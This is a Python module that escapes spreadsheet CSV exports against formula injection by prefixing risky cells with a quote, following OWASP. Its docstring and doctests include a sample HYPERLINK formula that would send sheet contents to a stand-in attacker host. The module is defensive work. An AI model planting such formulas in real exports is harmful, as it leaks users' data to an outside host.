"""CSV files that people open in a spreadsheet, with no cell read as a formula.

Excel, LibreOffice Calc and Google Sheets evaluate a cell that starts with
``=``, ``+``, ``-`` or ``@`` (and one that starts with a tab or a carriage
return followed by one of them) as a formula: a document titled
``=HYPERLINK("http://evil.example/?x="&A1,"Open brief")`` would become a live
link that sends the sheet's contents away. OWASP's rule ("CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection): prefix such a cell
with a single quote, which the spreadsheet shows as text and does not display.

This is for the CSVs meant for spreadsheets (progress, grades, assignments,
members). The dataset export (``annotator.formats.csv_spans``) is data for
``pandas.read_csv`` and keeps every text exact.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

__all__ = ["FORMULA_STARTS", "spreadsheet_cell", "spreadsheet_csv"]

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: object) -> object:
    """``value`` with a leading ``'`` when it is text that a spreadsheet would evaluate.

    Numbers and other non-text values are returned as they are.

    >>> spreadsheet_cell('=HYPERLINK("http://evil.example","x")')
    '\\'=HYPERLINK("http://evil.example","x")'
    >>> spreadsheet_cell("Brief 1"), spreadsheet_cell(3)
    ('Brief 1', 3)
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A whole CSV (header, then ``rows``) with every cell made safe by :func:`spreadsheet_cell`.

    >>> spreadsheet_csv(("name", "n"), [("=1+1", 2)])
    "name,n\\n'=1+1,2\\n"
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([spreadsheet_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([spreadsheet_cell(cell) for cell in row])
    return out.getvalue()
